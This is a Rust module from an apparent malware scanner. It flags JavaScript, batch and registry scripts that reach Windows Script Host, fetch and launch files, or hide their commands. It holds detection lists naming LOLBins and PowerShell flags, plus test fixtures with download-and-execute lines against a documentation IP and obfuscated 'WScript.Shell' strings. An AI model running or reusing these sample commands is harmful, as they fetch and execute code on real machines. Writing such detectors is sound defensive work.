//! Whether a script among other files is source code that people exchange, or was put among them.
//!
//! Entry: [`of`]. A script that is opened out of an archive runs by Windows Script Host or by the shell. Source code is for a
//! browser, for a program or for its reader, and shows that; what is made to run here has to reach Windows, by a
//! name or by one that is put together.

mod lexer;

use std::collections::BTreeSet;

use lexer::{Lexer, Token};

use super::names;
use super::office::has_word;
use crate::kind::{self, Kind};
use crate::octets::{holds, rest};
use crate::{Budget, Content, LimitReached};

/// Source code that somebody wrote is smaller.
const MOST: usize = 8 << 20;

/// What a script among other files looks like.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum Source {
    /// Like source code.
    Plain,
    /// It may well run by itself: some sources of compilers and libraries may.
    Runs,
    /// It hides what it uses, as nothing honest does.
    Hides,
}

/// Looks at text in one language.
type Look = fn(&[u8]) -> Source;

/// Looks at a script, in each language that one of its names says, once; what is a batch file by its content is looked at as
/// one whatever it is called. What a text editor opens, as it does scripts for `PowerShell`, is plain.
///
/// # Errors
/// It may not be looked through any more.
pub(crate) fn of(
    content: &Content<'_>,
    kind: Kind,
    budget: &mut Budget,
) -> Result<Source, LimitReached> {
    let readings = content.names.iter().flat_map(|name| names::readings(name));
    let endings: BTreeSet<String> = readings.map(|reading| reading.extension).collect();
    let is = |wanted: &[&str]| wanted.iter().any(|ending| endings.contains(*ending));
    let languages: [(bool, Look); 3] = [
        (is(&["js", "mjs"]), script),
        (is(&["bat", "cmd"]) || kind == Kind::Batch, batch),
        (is(&["reg"]), registry),
    ];
    let mut found = Source::Plain;
    for (_, look) in languages.into_iter().filter(|(is, _)| *is) {
        budget.search(content.octets.len())?;
        found = found.max(whole(&content.octets, look));
    }
    Ok(found)
}

/// Looks at all of it, as one octet a character. What is no text is no source code.
fn whole(octets: &[u8], look: Look) -> Source {
    if octets.len() > MOST {
        return Source::Runs;
    }
    kind::readable(octets, MOST).map_or(Source::Runs, |text| look(&text))
}

/// Objects of Windows by which a script does what no page can do.
const OBJECTS: &[&[u8]] = &[
    b"wscript.shell",
    b"wscript.network",
    b"scripting.filesystemobject",
    b"shell.application",
    b"adodb.stream",
    b"schedule.service",
    b"winhttp.winhttprequest",
    b"msxml2.serverxmlhttp",
    b"winmgmts:",
];

/// What else of Windows no script has a cause to put together of pieces.
const COMMANDS: &[&[u8]] = &[
    b"powershell",
    b"cmd.exe",
    b"cmd /c",
    b"mshta",
    b"activexobject",
];

/// Objects that libraries for old browsers ask for.
const OF_BROWSERS: &[&[u8]] = &[
    b"microsoft.xml",
    b"msxml",
    b"shockwaveflash",
    b"htmlfile",
    b"acropdf",
    b"pdf.pdfctrl",
];

/// Names that Windows Script Host does not have, and words at which its engines, which know ECMAScript up to its fifth
/// edition, end.
const ELSEWHERE: &[&str] = &[
    "$",
    "H5P",
    "JSON",
    "React",
    "Vue",
    "XMLHttpRequest",
    "addEventListener",
    "alert",
    "angular",
    "async",
    "await",
    "browser",
    "chrome",
    "class",
    "console",
    "define",
    "document",
    "export",
    "exports",
    "fetch",
    "ggbApplet",
    "globalThis",
    "import",
    "jQuery",
    "localStorage",
    "module",
    "navigator",
    "process",
    "require",
    "requestAnimationFrame",
    "self",
    "setInterval",
    "setTimeout",
    "window",
];

/// Names as tools give them that hide code (`_0x3f2a`), from so many on.
const RENAMED_FROM: usize = 16;

/// Looks at a script in `JavaScript`.
fn script(text: &[u8]) -> Source {
    let raw = text.to_ascii_lowercase();
    let code = Code::of(text);
    // A backslash that changes nothing hides nothing.
    let plain: Vec<u8> = raw
        .iter()
        .copied()
        .filter(|octet| *octet != b'\\')
        .collect();
    let is_put_together = |word: &&[u8]| {
        let mut backward = word.to_vec();
        backward.reverse();
        !holds(&raw, word)
            && !holds(&plain, word)
            && (holds(&code.strings, word) || holds(&code.strings, &backward))
    };
    if OBJECTS.iter().chain(COMMANDS).any(is_put_together) {
        return Source::Hides;
    }
    // Libraries try the names of one object in turn.
    let of_browsers = || {
        code.strings
            .split(|octet| *octet == b'\n')
            .any(is_of_browsers)
    };
    let asks = OBJECTS.iter().any(|word| holds(&code.strings, word))
        || (code.asks_any && !(code.elsewhere && of_browsers()));
    // Code in a comment, which only these engines run.
    let conditional = holds(&raw, b"@cc_on") || holds(&raw, b"/*@if") || holds(&raw, b"//@if");
    if asks
        || conditional
        || code.host
        || code.renamed >= RENAMED_FROM
        || (!code.elsewhere && (code.makes || code.computes))
    {
        Source::Runs
    } else {
        Source::Plain
    }
}

/// What a script in `JavaScript` does.
#[derive(Default)]
#[expect(
    clippy::struct_excessive_bools,
    reason = "each is one thing that it does or not"
)]
struct Code {
    /// Its strings in small letters, a line each; those that are added to one another are one.
    strings: Vec<u8>,
    /// It uses what only Windows Script Host has, or writes a name in a way that nobody writes one.
    host: bool,
    /// It makes an object by a name that is not written there.
    asks_any: bool,
    /// It uses what Windows Script Host does not have.
    elsewhere: bool,
    /// It makes code of text.
    makes: bool,
    /// It calls, or looks for where the host is, by a name that it computes.
    computes: bool,
    /// Names that a tool gave.
    renamed: usize,
}

impl Code {
    fn of(text: &[u8]) -> Self {
        let mut code = Self::default();
        let mut seen = [Token::Mark(b';'), Token::Mark(b';')];
        let mut lexer = Lexer::new(text);
        for token in lexer.by_ref() {
            code.take(&seen, &token);
            let [_, last] = seen;
            seen = [last, token];
        }
        code.host |= lexer.is_twofold;
        code
    }

    /// Takes a token behind two others.
    fn take(&mut self, seen: &[Token<'_>; 2], token: &Token<'_>) {
        let [second, last] = seen;
        if is_word(last, b"ActiveXObject")
            && *token != Token::Mark(b'(')
            && !matches!(second, Token::Mark(b'.'))
            && !is_word(second, b"typeof")
        {
            self.host = true;
        }
        if is_word(second, b"ActiveXObject") && *last == Token::Mark(b'(') {
            self.asks_any |= !matches!(token, Token::Text(text) if is_of_browsers(text));
        }
        match token {
            Token::Word(word) => self.word(last, word),
            Token::Text(text) => {
                let is_added = *last == Token::Mark(b'+') && matches!(second, Token::Text(_));
                if !is_added {
                    self.strings.push(b'\n');
                }
                self.strings.extend(text.iter().map(u8::to_ascii_lowercase));
                let name = text.as_slice();
                self.host |= *last == Token::Mark(b'[')
                    && (name.eq_ignore_ascii_case(b"activexobject")
                        || name.eq_ignore_ascii_case(b"wscript"));
            }
            Token::Template => self.elsewhere = true,
            // `=>`.
            Token::Mark(b'>') => self.elsewhere |= *last == Token::Mark(b'='),
            Token::Mark(b'(') => {
                self.host |= is_word(last, b"GetObject");
                self.makes |= is_word(last, b"constructor");
                self.computes |= *last == Token::Mark(b']');
            }
            Token::Mark(b'[') => self.computes |= is_word(last, b"this"),
            _ => {}
        }
    }

    fn word(&mut self, last: &Token<'_>, word: &[u8]) {
        let is_member = *last == Token::Mark(b'.');
        match word {
            b"WScript" => self.host |= !is_word(last, b"typeof"),
            b"eval" | b"Function" | b"execScript" => self.makes = true,
            _ => {}
        }
        self.elsewhere |= !is_member && ELSEWHERE.iter().any(|name| name.as_bytes() == word);
        // A letter of a name by its number.
        self.host |= holds(word, b"\\u");
        self.renamed += usize::from(word.starts_with(b"_0x"));
    }
}

fn is_word(token: &Token<'_>, word: &[u8]) -> bool {
    *token == Token::Word(word)
}

fn is_of_browsers(text: &[u8]) -> bool {
    let lower = text.to_ascii_lowercase();
    OF_BROWSERS.iter().any(|name| lower.starts_with(name))
}

/// What fetches something, as a word of its own.
const FETCH: &[&[u8]] = &[
    b"curl",
    b"wget",
    b"iwr",
    b"invoke-webrequest",
    b"downloadfile",
    b"downloadstring",
    b"start-bitstransfer",
];

/// Where what is fetched is laid for nobody to see it.
const ASIDE: &[&[u8]] = &[
    b"%temp%",
    b"%tmp%",
    b"%appdata%",
    b"%localappdata%",
    b"%public%",
    b"%programdata%",
    b"$env:temp",
    b"$env:appdata",
    b"\\users\\public",
];

/// What no source code has cause to do on who opens it.
const BATCH: &[&[u8]] = &[
    b"mshta",
    b"bitsadmin",
    b"scrobj.dll",
    b"javascript:",
    b"vbscript:",
    b"invoke-expression",
    b"iex(",
    b"iex (",
    b"|iex",
    b"| iex",
    b"-encodedcommand",
    b" -enc ",
    b" -ec ",
    b"-w hidden",
    b"-windowstyle hidden",
    b"-win hidden",
    b"certutil -decode",
    b"certutil -f -decode",
    b"certutil -urlcache",
    b"certutil.exe -urlcache",
    b"currentversion\\run",
    b"vssadmin",
    b"frombase64string",
];

/// Pieces of variables (`%a:~3,1%`) from which a batch file is put together, from so many on. One that takes the date apart
/// has a dozen.
const PIECES_FROM: usize = 24;

/// Programs whose names nobody cuts into pieces.
const CUT: &[&[u8]] = &[
    b"mshta",
    b"powershell",
    b"bitsadmin",
    b"certutil",
    b"regsvr32",
    b"rundll32",
];

/// Looks at a batch file.
fn batch(text: &[u8]) -> Source {
    let raw = text.to_ascii_lowercase();
    // A caret does nothing before most letters (cmd.exe, "escape character").
    let plain: Vec<u8> = raw.iter().copied().filter(|octet| *octet != b'^').collect();
    let has = |words: &[&[u8]]| words.iter().any(|word| holds(&plain, word));
    let is_put_together = |word: &&[u8]| !holds(&raw, word) && holds(&plain, word);
    // Nor do quotes within a word, nor variables that nothing is in.
    let joined = joined(&plain);
    let is_cut = |word: &&[u8]| !holds(&raw, word) && holds(&joined, word);
    if BATCH.iter().chain(COMMANDS).any(is_put_together) || CUT.iter().any(is_cut) {
        return Source::Hides;
    }
    let fetches = |line: &[u8]| FETCH.iter().any(|word| has_word(line, word));
    let aside = |line: &[u8]| ASIDE.iter().any(|word| holds(line, word));
    let lines = || plain.split(|octet| matches!(octet, b'\n' | b'\r'));
    let starts = |line: &[u8]| line.trim_ascii_start().starts_with(b"start ");
    let is_fetched = lines().any(|line| fetches(line) && aside(line))
        || (lines().any(|line| fetches(line) && holds(line, b"http")) && lines().any(starts));
    let pieces = memchr::memmem::find_iter(&plain, b":~").take(PIECES_FROM);
    if has(BATCH) || is_fetched || pieces.count() == PIECES_FROM {
        Source::Runs
    } else {
        Source::Plain
    }
}

/// A batch file without its quotes, and without variables within words.
fn joined(text: &[u8]) -> Vec<u8> {
    /// Longer ones are no names of variables.
    const NAME_MAX: usize = 64;
    let mut out = Vec::with_capacity(text.len());
    let mut left = text;
    while let Some((octet, behind)) = left.split_first() {
        left = behind;
        let is_name = |octet: &u8| octet.is_ascii_alphanumeric() || b"_~:,-=".contains(octet);
        match octet {
            b'"' => {}
            b'%' => {
                let name = behind
                    .iter()
                    .take(NAME_MAX)
                    .take_while(|octet| is_name(octet));
                let length = name.count();
                if length > 0 && behind.get(length) == Some(&b'%') {
                    left = rest(behind, length + 1);
                } else {
                    out.push(b'%');
                }
            }
            other => out.push(*other),
        }
    }
    out
}

/// Keys under which Windows looks for what it starts, and commands.
const KEYS: &[&[u8]] = &[
    b"currentversion\\run",
    b"currentversion\\policies\\explorer\\run",
    b"image file execution options",
    b"\\shell\\open\\command",
    b"appinit_dlls",
    b"\\winlogon]",
    b"command processor",
    b"userinitmprlogonscript",
    b"javascript:",
    b"powershell",
    b"mshta",
    b"scrobj.dll",
];

/// Looks at entries for the registry.
fn registry(text: &[u8]) -> Source {
    let raw = text.to_ascii_lowercase();
    if KEYS.iter().any(|key| holds(&raw, key)) {
        Source::Runs
    } else {
        Source::Plain
    }
}

/// The entry for fuzzing: any octets as a script of each language.
///
/// # Panics
///
/// Where a token takes no octet.
pub fn fuzz(octets: &[u8]) {
    for look in [script, batch, registry] {
        look(octets);
    }
    let most = octets.len().saturating_add(1);
    let tokens = Lexer::new(octets).take(most).count();
    assert!(tokens < most, "each token takes an octet");
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_for_a_browser_or_a_program_is_plain() {
        for text in [
            "",
            "var a = 1;",
            "var names = { 'a.b': [1, 2], c: 'WScript' };",
            "function onInit() {}",
            "function add(a, b) { return a + b; }\nadd(1, 2);",
            "export const a = b => b[c](d);",
            "const a = require('fs');\na['read' + b](c);",
            "(function (root, factory) { root[a] = factory(); eval(b); })(window, function () {});",
            "var x = window.ActiveXObject ? new ActiveXObject('Microsoft.XMLHTTP') : new XMLHttpRequest();",
            "if (typeof ActiveXObject !== 'undefined') { document.a = new ActiveXObject(\"htmlfile\"); }",
            "if (typeof WScript !== 'undefined') { module.exports = 1; }",
            "$('#a')[b](function () {});",
            "document.title = `a ${b}`;",
            "document; x = new RegExp('cmd\\.exe'); y = '\\/';",
            "window; for (i in p) new ActiveXObject(p[i]); var p = ['Msxml2.XMLHTTP', 'Microsoft.XMLHTTP'];",
            "if (typeof JSON !== 'object') { j = eval('(' + text + ')'); }",
            "f`a${g(`b`)}\\n`; h(i);",
            "if (a) /'/.test(b); while (c) /`/.test(d);",
            "x = a[b](c) ? d : e; // eval\nsetTimeout(f);",
            "function md5(a) { return b(a[0], a[1]); }",
            "var s3 = require('s3'); s3.getObject(a);",
        ] {
            assert_eq!(script(text.as_bytes()), Source::Plain, "{text}");
        }
    }

    #[test]
    fn what_reaches_windows_runs() {
        for text in [
            "var s = new ActiveXObject(name);",
            "document; var s = new ActiveXObject(name);",
            "document; var A = ActiveXObject; new A('x');",
            "document; this['ActiveXObject']('a' + b);",
            "document; this[\"WScript\"].Sleep(1);",
            "document; WScript.Echo(1);",
            "document; GetObject(a);",
            "document; new ActiveXObject('WScript.Shell');",
            "document; \\u0041ctiveXObject(a);",
            "document; /*@cc_on eval(a) @*/",
            "eval(a);",
            "var f = Function; f(a)();",
            "a.constructor.constructor(b)();",
            "this[a](b);",
            "// a\rthis[a](b);",
            "{}/'/;this[a](b);c='/'",
            "eval\u{a0}(a);",
            "window; new ActiveXObject(f(a));",
            "var x = this[a]; x(b);",
            "a[b](c);",
            "[][(![]+[])[+[]]]()",
        ] {
            assert_eq!(script(text.as_bytes()), Source::Runs, "{text}");
        }
        let renamed = format!("document; {}", "_0x3f2a = _0x3f2b;".repeat(8));
        assert_eq!(script(renamed.as_bytes()), Source::Runs);
    }

    #[test]
    fn what_puts_its_words_together_hides() {
        for text in [
            "document; a('WScr' + 'ipt.Sh' + 'ell');",
            "document; a('\\x57Script.Shell');",
            "document; a('\\u0057Script.\\123hell');",
            "document; a('llehS.tpircSW'.split('').reverse().join(''));",
            "document; a('power' + \"shell\");",
            "document; window['Active' + /* b */ 'XObject'];",
            "// x\rthis['Act'+'iveXObject']('WScr'+'ipt.Shell').Run(a);",
            "if(1)/`/.test(1);new this['Act'+'iveXObject']('WScr'+'ipt.Shell');if(1)/`/.test(1);",
            "'WScr'\u{b}+\u{b}'ipt.Shell'",
        ] {
            assert_eq!(script(text.as_bytes()), Source::Hides, "{text}");
        }
        for text in [
            "po^wersh^ell a",
            "m^shta http://203.0.113.1",
            "m\"sh\"ta http://203.0.113.1",
            "m%x%shta http://203.0.113.1",
        ] {
            assert_eq!(batch(text.as_bytes()), Source::Hides, "{text}");
        }
    }

    #[test]
    fn a_batch_file_that_builds_is_plain_and_one_that_fetches_is_not() {
        for text in [
            "@echo off\r\nset a=%~dp0\r\njava -jar \"%a%lib\\gradle.jar\" %*\r\n",
            "@echo off\nfor /f %%i in ('powershell -NoProfile -Command \"Get-Date -Encoding utf8\"') do set d=%%i\n",
            "curl -O https://example.org/a.jar\n",
            "set d=%date:~6,4%-%date:~3,2%-%date:~0,2%_%time:~0,2%%time:~3,2%\n",
            "echo ^<a^>\n",
            "set LIBS=libcurl.lib\ncl a.c > %TEMP%\\build.log\n",
            "set P=%CD:\\=\\\\%\ndel %TEMP%\\x.log\n",
            "curl -O http://example.org/a.zip\nfindstr /r \"^C:\\\\\" a > \"%TEMP%\\a.txt\"\n",
        ] {
            assert_eq!(batch(text.as_bytes()), Source::Plain, "{text}");
        }
        for text in [
            "mshta http://203.0.113.1/a",
            "powershell -w hidden a",
            "powershell IEX(a)",
            "curl http://203.0.113.1/a -o %TEMP%\\a.exe",
            "set d=%TEMP%\\a.exe\r\ncurl.exe http://203.0.113.1/a -o %d%\r\nstart %d%",
            "certutil -urlcache -f http://203.0.113.1/a a.exe",
        ] {
            assert_eq!(batch(text.as_bytes()), Source::Runs, "{text}");
        }
        let pieces = "%a:~3,1%".repeat(PIECES_FROM);
        assert_eq!(batch(pieces.as_bytes()), Source::Runs);
    }

    #[test]
    fn entries_that_start_something_are_not_plain() {
        let key = "Windows Registry Editor Version 5.00\n\n[HKEY_CURRENT_USER\\Software\\";
        let of_a_program = format!("{key}Example]\n\"a\"=\"b\"\n");
        assert_eq!(registry(of_a_program.as_bytes()), Source::Plain);
        let started = format!("{key}Microsoft\\Windows\\CurrentVersion\\Run]\n\"a\"=\"b\"\n");
        assert_eq!(registry(started.as_bytes()), Source::Runs);
    }
}
